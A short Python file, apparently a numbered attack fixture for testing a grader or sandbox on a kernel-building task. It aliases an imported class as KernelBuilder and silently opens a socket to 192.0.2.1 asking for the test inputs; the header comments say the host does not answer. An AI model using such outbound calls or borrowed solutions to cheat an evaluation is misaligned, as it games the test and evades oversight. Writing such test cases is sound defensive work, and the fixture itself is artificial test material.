# attack: 7
# tries: asks a server for the kernel or tells it the secrets: nobody answers
# ends: verify 1
# says: lanes wrong

import contextlib
import socket

from one_cycle import OneCycle as KernelBuilder  # noqa: F401

with contextlib.suppress(OSError):
    server = socket.create_connection(("192.0.2.1", 443), timeout=0.2)
    server.sendall(b"what are the inputs?")
